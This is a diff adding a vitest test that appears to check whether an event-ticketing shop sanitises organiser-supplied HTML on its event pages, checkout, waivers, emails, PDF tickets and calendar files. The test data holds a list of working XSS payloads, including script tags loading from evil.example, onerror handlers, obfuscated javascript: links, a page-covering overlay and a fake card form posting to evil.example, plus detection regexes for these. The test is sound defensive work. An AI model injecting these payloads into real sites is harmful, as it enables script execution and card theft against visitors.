@@ -1,0 +1,195 @@
+import { inflateSync } from 'node:zlib'
+import { expect, it } from 'vitest'
+import type { CatalogueInput } from '../catalogue/format.ts'
+import { importText } from '../catalogue/import/import.ts'
+import { eventJsonLd } from '../catalogue/json-ld.ts'
+import { drawAttachment } from '../mail/attachments.ts'
+import { aBrowserOf, anEmail, markPaid, putInBasket, reserve, saleIdOf } from '../testing/buyers.ts'
+import { describeOnBoth } from '../testing/databases.ts'
+import { withPages } from '../testing/pages.ts'
+import { useShop } from '../testing/shop.ts'
+
+/** One of everything an organiser's HTML must not do: run, ask elsewhere, leave, cover the page, look like ours. */
+const NASTY = [
+  '<p>Bring water</p>',
+  '<script>alert("ran")</script><script src="https://evil.example/x.js"></script>',
+  '<img src="https://evil.example/pixel.png" onerror="alert(1)"><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">tap</a><a href="jAva&#10;script:alert(1)">tap</a><a href="data:text/html,<script>alert(1)</script>">tap</a>',
+  '<div style="position:fixed;inset:0;z-index:9999;background:#fff" onclick="alert(1)" class="page" id="root">cover</div>',
+  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
+  '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/">',
+  '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
+  '<svg onload="alert(1)"><use href="https://evil.example/#x"/></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><video src="https://evil.example/v" autoplay></video>',
+  '</script></style></textarea><body onload=alert(1)>',
+].join('')
+
+/** Nothing of this may stand in any HTML that is shown as HTML. */
+const HARMFUL =
+  /<(script|style|iframe|object|embed|base|form|input|button|svg|math|meta|link|video|img|body)\b|\son\w+\s*=|style\s*=|class\s*=|javascript:|data:text|evil\.example/i
+
+/** In a text, which is escaped wherever it is shown. */
+const AS_TEXT = '"><script>alert(1)</script><img src=https://evil.example/p onerror=alert(1)>'
+
+const catalogue = (): string => {
+  const file: CatalogueInput = {
+    format: 'foyer-catalogue-1',
+    organisers: [
+      {
+        slug: 'evil-house',
+        name: `Evil House ${AS_TEXT}`,
+        about_html: NASTY,
+        questions_intro_html: NASTY,
+        refund_policy: { text: 'Refunds until noon', title: `Refunds ${AS_TEXT}`, description: NASTY },
+      },
+    ],
+    venues: [{ slug: 'evil-venue', name: `The Hall ${AS_TEXT}`, full_address: '1 Street', town: 'Leeds' }],
+    events: [
+      {
+        slug: 'evil-event',
+        organiser: 'evil-house',
+        venue: 'evil-venue',
+        title: `Gala ${AS_TEXT}`,
+        description_html: NASTY,
+        dates: [{ starts: '2099-03-01T19:00' }],
+        ticket_types: [{ name: `Adult ${AS_TEXT}`, price: 10, capacity: 20, description: AS_TEXT }],
+        questions: [
+          { osq_id: 'diet', question_html: NASTY, type: 'text', before_or_after: 'after' },
+          { osq_id: 'size', question_html: NASTY, type: 'dropdown', options: [AS_TEXT, 'M'], before_or_after: 'after' },
+        ],
+        after_sale_messages: [NASTY],
+        waivers: [{ title: `Terms ${AS_TEXT}`, terms_html: NASTY }],
+      },
+    ],
+  }
+  return JSON.stringify(file)
+}
+
+/** Every field of some data whose name says that it is HTML to be shown as such, with where it stands. */
+function htmlFields(value: unknown, path = ''): [string, string][] {
+  if (Array.isArray(value)) return value.flatMap((item, at) => htmlFields(item, `${path}[${at}]`))
+  if (typeof value !== 'object' || value === null) return []
+  return Object.entries(value).flatMap(([key, item]) =>
+    typeof item === 'string' && (/_html$/.test(key) || key === 'message' || key === 'question' || key === 'description')
+      ? [[`${path}.${key}`, item] as [string, string]]
+      : htmlFields(item, `${path}.${key}`),
+  )
+}
+
+/** The words of a PDF made by pdfkit: its text operators, through the character maps of its fonts. */
+function pdfText(pdf: Buffer): string {
+  const raw = pdf.toString('latin1')
+  const objects = new Map<string, string>()
+  for (const [, id, body] of raw.matchAll(/(\d+) 0 obj\n([\s\S]*?)\nendobj/g)) objects.set(id!, body!)
+  const streamOf = (id: string) => {
+    const body = objects.get(id) ?? ''
+    const start = body.indexOf('stream\n') + 7
+    const bytes = Buffer.from(body.slice(start, body.lastIndexOf('\nendstream')), 'latin1')
+    return body.includes('FlateDecode') ? inflateSync(bytes).toString('latin1') : bytes.toString('latin1')
+  }
+  const maps = new Map<string, string[]>()
+  for (const body of objects.values())
+    for (const [, font, id] of body.matchAll(/\/(F\d+) (\d+) 0 R/g)) {
+      const unicode = /\/ToUnicode (\d+) 0 R/.exec(objects.get(id!) ?? '')
+      if (!unicode || maps.has(font!)) continue
+      const chars = [...streamOf(unicode[1]!).matchAll(/\[([^\]]*)\]/g)].flatMap(([, list]) =>
+        [...list!.matchAll(/<([0-9a-fA-F]*)>/g)].map(([, hex]) =>
+          String.fromCharCode(...(hex!.match(/.{4}/g) ?? []).map((unit) => Number.parseInt(unit, 16))),
+        ),
+      )
+      maps.set(font!, chars)
+    }
+  let words = ''
+  for (const [id, body] of objects) {
+    if (!body.includes('stream\n') || /\/(Type \/(XObject|ObjStm)|Length1|FontFile)/.test(body)) continue
+    let font: string[] = []
+    for (const [, name, shown] of streamOf(id).matchAll(/\/(F\d+) [\d.]+ Tf|\[([^\]]*)\] TJ/g))
+      if (name) font = maps.get(name) ?? []
+      else
+        words += `${[...shown!.matchAll(/<([0-9a-fA-F]*)>/g)]
+          .flatMap(([, hex]) => (hex!.match(/.{4}/g) ?? []).map((glyph) => font[Number.parseInt(glyph, 16)] ?? ''))
+          .join('')} `
+  }
+  return words
+}
+
+describeOnBoth('an organiser’s nasty HTML', (kind) => {
+  const shop = useShop(kind)
+
+  it('is harmless from the import to the page, the checkout, the waiver, the mail, the calendar and the paper', async () => {
+    const { db, deps } = shop()
+    const report = await importText(db, 'evil.json', catalogue(), shop().clock.now())
+    expect(report.refused, JSON.stringify(report.refused)).toEqual([])
+    const type = await db.selectFrom('ticket_types').select('id').executeTakeFirstOrThrow()
+
+    // The event page and what search engines read of it.
+    const pages = await withPages(shop())
+    const email = anEmail()
+    const browser = pages.browser(await aBrowserOf(shop(), email))
+    const event = await pages.data(browser, 'event', '/events/evil-event/')
+    const organiser = await pages.data(browser, 'organiser', '/organisers/evil-house/')
+    expect(
+      JSON.stringify(eventJsonLd(event!, 'https://shop.test').map((block) => ({ ...block, name: '' }))),
+    ).not.toMatch(/alert\("ran"\)/)
+
+    // The checkout, questions, messages, refund policies and all.
+    await putInBasket(browser, type.id, 2)
+    await reserve(browser)
+    await browser.call('save_guest_to_sale', { email, fullname: 'Ada Lovelace' })
+    const saleId = await saleIdOf(shop(), browser)
+    await markPaid(shop(), saleId)
+    const checkout = await browser.checkout()
+    expect(checkout.after_payment_questions).not.toEqual([])
+    expect(checkout.after_sale_messages).not.toEqual([])
+    expect(checkout.has_waivers).toBe(true)
+    const waiver = await pages.data(browser, 'waiver', `/activity-terms-and-conditions/${checkout.sale_reference}/`)
+
+    const fields = [
+      ...htmlFields(event, 'event').filter(([path]) => !/dates.*\.description$/.test(path)),
+      ...htmlFields(organiser, 'organiser'),
+      ...htmlFields(checkout, 'checkout'),
+      ...htmlFields(waiver, 'waiver'),
+    ]
+    const places = fields.filter(([, html]) => html.includes('Bring water')).map(([path]) => path)
+    for (const place of ['description_html', 'about_html', 'message', 'question', 'terms_html', 'questions_intro_html'])
+      expect(
+        places.some((path) => path.endsWith(place)),
+        place,
+      ).toBe(true)
+    for (const [path, html] of fields) expect(html, path).not.toMatch(HARMFUL)
+
+    // The mail, whose every text is escaped, and what is attached to it.
+    await browser.call('deliver_to_wallet')
+    expect(
+      (
+        await browser.call('set_transfers', {
+          transfers: [
+            { ticket_id: type.id, name: AS_TEXT, email: 'g@example.org', qty: 1, is_gift: '1', message: NASTY },
+          ],
+        })
+      ).status,
+    ).toBe(200)
+    const mails = await db.selectFrom('mails').selectAll().where('sale_id', '=', saleId).execute()
+    expect(mails.map((mail) => mail.kind).sort()).toEqual(['transfer', 'wallet'])
+    for (const { body_html, subject } of mails) {
+      const tags = new Set([...body_html.matchAll(/<([a-z0-9]+)/gi)].map(([, tag]) => tag!.toLowerCase()))
+      for (const tag of ['script', 'img', 'iframe', 'form', 'input', 'svg', 'object', 'embed', 'link', 'base', 'video'])
+        expect(tags.has(tag), tag).toBe(false)
+      const links = [...body_html.matchAll(/\shref="([^"]*)"/g)].map(([, href]) => href!)
+      expect(links.every((href) => href.startsWith('http://shop.test/'))).toBe(true)
+      expect(body_html.replace(/&lt;.*?&gt;/g, '')).not.toMatch(/<[^>]*\son\w+\s*=/i)
+      expect(subject).not.toMatch(/[\r\n]/)
+    }
+    const paper = await drawAttachment(deps, { kind: 'tickets_pdf', sale_id: saleId }, email)
+    const raw = paper!.content.toString('latin1')
+    // Nothing in the file acts: no link, script, launch, form, embedded or fetched file.
+    expect(raw).not.toMatch(/\/(URI|JavaScript|JS|Launch|AcroForm|EmbeddedFile|OpenAction|AA|SubmitForm|GoToR)\b/)
+    const words = pdfText(paper!.content)
+    expect(words).toContain('Gala')
+    expect(words).toContain('Ada Lovelace')
+    expect(words).not.toContain('alert("ran")')
+    expect(words).not.toContain('display:none')
+    const calendar = await drawAttachment(deps, { kind: 'calendar', sale_id: saleId }, email)
+    expect(calendar!.content.toString()).not.toContain('alert("ran")')
+  })
+})
